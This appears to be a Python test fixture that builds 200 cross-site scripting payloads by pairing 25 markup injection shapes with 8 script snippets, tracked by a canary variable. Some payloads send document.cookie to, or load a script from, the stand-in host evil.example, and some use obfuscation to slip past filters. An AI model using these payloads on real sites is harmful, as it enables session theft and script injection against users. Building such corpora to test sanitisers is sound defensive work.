"""Two hundred ways to make a page run what it should only show: every shape of markup with every thing to run, some of them dressed up."""

from __future__ import annotations

from itertools import product

CANARY = "window.ran=1"
RUNS = (
    f"{CANARY};alert(1)",
    f"{CANARY};alert`1`",
    f"self['al'+'ert']({CANARY})",
    f"({CANARY},confirm)(1)",
    f"eval(name);{CANARY}",
    f"import('data:text/javascript,{CANARY}')",
    f"fetch('//evil.example/'+document.cookie);{CANARY}",
    f"document.body.innerHTML='x';{CANARY}",
)
SHAPES = (
    "<script>{run}</script>",
    "<script src=//evil.example/a.js></script><script>{run}</script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style></script><script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}">',
    '"><img src=x onerror={run}>',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    '" autofocus onfocus="{run}" x="',
    "' onmouseover='{run}' x='",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<a href=javascript:{run}>x</a>",
    "javascript:{run}",
    "java\tscript:{run}",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<!--><script>{run}</script>-->",
    "{{{{{run}}}}}${{{run}}}<%={run}%>",
)
PAYLOADS = [shape.format(run=run) for shape, run in product(SHAPES, RUNS)]
